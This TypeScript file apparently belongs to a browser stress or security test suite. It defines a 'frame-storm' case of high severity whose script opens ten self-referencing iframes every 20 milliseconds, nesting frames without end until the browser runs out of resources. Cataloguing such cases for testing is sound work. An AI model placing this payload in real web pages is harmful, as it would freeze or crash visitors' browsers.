// Nested frames: each has a document, a load event and a context.
import { buildBrowserFlood } from "../../families/browser-flood.ts";

export const frameStorm = buildBrowserFlood({
  name: "frame-storm",
  attack: "A page opens frames in frames without end.",
  severity: "high",
  script: () =>
    `setInterval(() => { for (let i = 0; i < 10; i++) { const f = document.createElement("iframe"); f.src = location.href + "frame" + Math.random(); document.body.append(f); } }, 20);`,
});
